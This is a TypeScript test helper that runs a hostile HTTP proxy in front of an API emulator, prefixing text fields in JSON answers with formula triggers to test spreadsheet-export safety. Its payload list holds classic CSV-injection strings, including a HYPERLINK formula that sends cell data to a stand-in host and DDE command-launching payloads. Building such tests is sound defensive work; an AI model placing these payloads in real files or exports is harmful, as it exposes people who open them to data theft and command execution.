// A hostile API for spreadsheet-safety tests: a real HTTP proxy in front of the emulator that
// starts the human-readable text of every answer (Paragon user ids, step types and
// inputs/outputs; Dispersl task and step names, agents, models, tools) with a formula
// trigger: `=`, `+`, `-`, `@`, a tab or a carriage return. Ids, statuses and numbers pass
// unchanged, so listings, details and payload requests work as against the emulator.
import { createHash } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';

export const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;

/** One hostile prefix per trigger, each a classic CSV-injection payload. */
const PREFIXES: readonly string[] = [
  '=HYPERLINK("https://evil.invalid/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** Keys whose string values are people's text in the two wire formats. */
const TEXT_KEYS = new Set(['userId', 'type', 'input', 'output', 'task_name', 'step_name', 'agent', 'model', 'tools_used']);

/** The value with a trigger chosen by the value and its record's id (names repeat across records). */
export function hostile(value: string, salt = ''): string {
  const n = createHash('sha1').update(`${salt}\u0000${value}`).digest().readUInt32BE(0);
  return `${PREFIXES[n % PREFIXES.length]} ${value}`;
}

function rewrite(value: unknown, key: string, salt: string): unknown {
  if (Array.isArray(value)) return value.map((item) => rewrite(item, key, salt));
  if (typeof value === 'string') return TEXT_KEYS.has(key) ? hostile(value, salt) : value;
  if (value !== null && typeof value === 'object') {
    // A structured input or output becomes a string payload: a server may send either.
    if (key === 'input' || key === 'output') return hostile(JSON.stringify(value), salt);
    const record = value as Record<string, unknown>;
    const id = record['task_id'] ?? record['step_id'] ?? record['id'];
    const own = typeof id === 'string' ? id : salt;
    return Object.fromEntries(Object.entries(record).map(([k, v]) => [k, rewrite(v, k, own)]));
  }
  return value;
}

export interface FormulaProxy {
  /** The proxy's origin; paths are those of the emulator. */
  readonly origin: string;
  close(): Promise<void>;
}

export async function startFormulaProxy(upstreamOrigin: string): Promise<FormulaProxy> {
  const upstream = new URL(upstreamOrigin);
  const server = http.createServer((req, res) => {
    const headers = { ...req.headers, host: upstream.host };
    delete headers['accept-encoding'];
    const forward = http.request({ hostname: upstream.hostname, port: upstream.port, method: req.method, path: req.url, headers }, (answer) => {
      const chunks: Buffer[] = [];
      answer.on('data', (chunk: Buffer) => chunks.push(chunk));
      answer.on('end', () => {
        let body = Buffer.concat(chunks);
        const outHeaders = { ...answer.headers };
        if (/json/.test(String(answer.headers['content-type'] ?? ''))) {
          try {
            body = Buffer.from(JSON.stringify(rewrite(JSON.parse(body.toString('utf8')), '', '')));
          } catch {
            // Not JSON after all: pass it on as it came.
          }
        }
        delete outHeaders['transfer-encoding'];
        delete outHeaders['content-encoding'];
        outHeaders['content-length'] = String(body.length);
        res.writeHead(answer.statusCode ?? 502, outHeaders);
        res.end(body);
      });
      answer.on('error', () => res.destroy());
    });
    forward.on('error', () => res.destroy());
    req.pipe(forward);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
